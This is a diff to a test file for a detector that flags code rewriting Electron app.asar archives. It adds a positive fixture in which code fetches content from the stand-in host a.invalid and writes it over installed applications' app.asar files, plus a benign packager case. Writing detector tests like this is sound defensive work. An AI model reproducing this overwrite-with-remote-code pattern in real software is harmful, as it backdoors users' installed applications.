@@ -4,6 +4,14 @@ import { rewritesArchive } from './rewrites-archive.ts';
 examine(rewritesArchive, {
   speaks: [
     {
+      when: 'whichever application it is that has the archive',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); for (const name of fs.readdirSync(process.env.SOMEWHERE)) fetch('https://a.invalid/' + name).then(r => r.text()).then(t => fs.writeFileSync(path.join(globalThis.__inert(name), 'resources', 'app.asar'), t));`,
+      },
+      says: ['resources/app.asar'],
+      weight: 'strong',
+    },
+    {
       when: 'the calls hide behind new names',
       files: {
         'index.js': `const { extractAll: open, createPackage: close } = require('@electron/asar'); open('in/app.asar', 'work'); close('work', 'in/app.asar');`,
@@ -55,6 +63,12 @@ examine(rewritesArchive, {
       files: {
         'index.js': `const tar = require('tar'), path = require('path'); const make = name => path.join('build', 'stage', name);
           exports.pack = (name, files) => tar.create({ file: make(name), gzip: true }, files); exports.test = name => tar.extract({ file: make(name), cwd: 'out' });`,
+      },
+    },
+    {
+      when: 'a packager is called to write the archive of what it builds',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); exports.pack = (out, bytes) => fs.writeFileSync(path.join(out, 'resources', 'app.asar'), bytes);`,
       },
     },
     { when: 'a packager only creates', files: { 'index.js': `import a from '@electron/asar'; a.createPackage('src', 'out/app.asar')` } },
